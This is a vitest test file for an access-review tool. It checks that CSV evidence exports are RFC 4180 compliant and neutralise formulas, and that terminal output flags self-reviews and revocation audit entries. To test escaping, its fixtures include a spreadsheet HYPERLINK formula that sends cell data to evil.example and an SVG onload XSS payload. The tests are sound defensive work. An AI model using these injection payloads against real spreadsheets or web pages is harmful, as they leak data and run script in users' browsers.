// Review evidence as CSV a spreadsheet opens as data, and review text for a terminal.
import { describe, expect, test } from 'vitest';
import { REVIEW_CSV_HEADER, renderReviewCsv, renderReviewShow, renderReviewStatus } from '../../src/render/review.js';
import { reviewRows } from '../../src/plan/review.js';
import { HOSTILE, hostileEvidence, fixtureReview } from '../support/review-fixture.js';

/** RFC 4180, strictly: what a spreadsheet reads. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else cell += c;
      i++;
      continue;
    }
    if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (c === '"' || c === '\n' || c === '\r') throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    else cell += c;
    i++;
  }
  if (cell !== '' || row.length) throw new Error('the last line has no CRLF');
  return rows;
}

describe('review evidence as CSV', () => {
  const e = hostileEvidence();
  const rows = parseCsv(renderReviewCsv(e));

  test('RFC 4180: a header, then one line per decision (or per undecided row), every line as wide', () => {
    expect(rows[0]).toEqual([...REVIEW_CSV_HEADER]);
    const lines = e.rows.reduce((n, r) => n + Math.max(1, r.decisions.length), 0);
    expect(rows).toHaveLength(1 + lines);
    for (const r of rows) expect(r).toHaveLength(REVIEW_CSV_HEADER.length);
  });

  test('a cell a spreadsheet would run as a formula stays text; quotes, commas and markup come back as written', () => {
    const col = (name: (typeof REVIEW_CSV_HEADER)[number]) => REVIEW_CSV_HEADER.indexOf(name);
    const reasons = rows.slice(1).map((r) => r[col('reason')]);
    expect(reasons).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"x") <b>no longer on the team</b>`);
    const hostile = rows.find((r) => r[col('who')] === HOSTILE)!;
    expect(hostile[col('reviewer')]).toBe('<svg onload=alert(3)>');
    expect(hostile[col('actor')]).toBe('<i>x</i>@cli');
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('a revocation carries the audit entry that removed it', () => {
    const col = (name: (typeof REVIEW_CSV_HEADER)[number]) => REVIEW_CSV_HEADER.indexOf(name);
    const alice = rows.filter((r) => r[col('who')] === 'alice' && r[col('dataset')] === 'training-data');
    expect(alice.map((r) => [r[col('reviewer')], r[col('actor')], r[col('on_behalf')], r[col('decision')], r[col('self_review')]])).toEqual([
      ['alice@example.com', 'alice@example.com', '', 'keep', 'true'],
      ['carol', 'ci@cli', 'decision recorded on behalf of carol by ci@cli', 'revoke', 'false'],
    ]);
    for (const r of alice) {
      expect(r[col('revocation')]).toBe('removed');
      expect(r[col('removal_audit_seq')]).toBe('20');
      expect(r[col('removed_at')]).toBe('2026-12-03T10:00:00.000Z');
      expect(r[col('removed_by')]).toBe('ci@cli');
      expect(r[col('removal_change')]).toBe('change.delete aws:membership/ml-researchers/alice');
      expect(r[col('revocation_observed_at')]).toBe(e.checkedAt);
      expect(r[col('audit_check')]).toBe('ok');
    }
  });
});

describe('review text', () => {
  test('show numbers the rows, flags self-review and counts what is undecided', () => {
    const review = fixtureReview([
      ['bob', 'artifacts', 'read', 'keep', 'BOB@example.com'],
      ['bob', 'artifacts', 'write', 'keep', 'carol@example.com', 'bob@cli'],
    ]);
    const rows = reviewRows(review);
    const text = renderReviewShow(review, rows, {
      rows: rows.length,
      undecided: rows.length - 2,
      keep: 2,
      revoke: 0,
      contested: 0,
      selfReviewOnly: 2,
      selfReviews: 2,
      removed: 0,
      present: 0,
    });
    expect(text).toMatch(/^9 +- +read +training-data \(aws\) +alice +both$/m);
    expect(text).toMatch(/^12 +- +read +training-data \(aws\) +mallory \(aws-user, not datagrant's\) +actual$/m);
    expect(text).toMatch(
      /keep by BOB@example.com \(recorded by BOB@example.com\) \(SELF-REVIEW\) at 2026-12-01T00:00:00.000Z \(audit #\d+\): keep: quarterly review/,
    );
    // bob records a keep on his own write access in carol's name: on her behalf, and his self-review.
    expect(text).toMatch(
      /keep by carol@example.com \(decision recorded on behalf of carol@example.com by bob@cli\) \(SELF-REVIEW\) at 2026-12-01T00:00:00.000Z/,
    );
    expect(text).toContain(`${rows.length} row(s): 2 keep, 0 revoke, ${rows.length - 2} undecided; 2 decided only by self-review.`);
  });

  test('status names the entry of each removal, and what is still held', () => {
    const text = renderReviewStatus(hostileEvidence());
    expect(text).toMatch(
      /#\d+ removed {2}read on training-data \(aws\) for alice\n {4}audit #20 2026-12-03T10:00:00.000Z by ci@cli: change.delete aws:membership\/ml-researchers\/alice \(hash b{64}\)/,
    );
    expect(text).toMatch(/#\d+ STILL HELD {2}read on artifacts \(aws\) for .*not datagrant's\)/);
    expect(text).toMatch(/removed by change.delete aws:membership\/ml-researchers\/alice \(audit #20\)\n {4}observed gone at \S+\n/);
    expect(text).toContain('1 of 2 revocation(s) in effect; 1 still held.');
  });
});
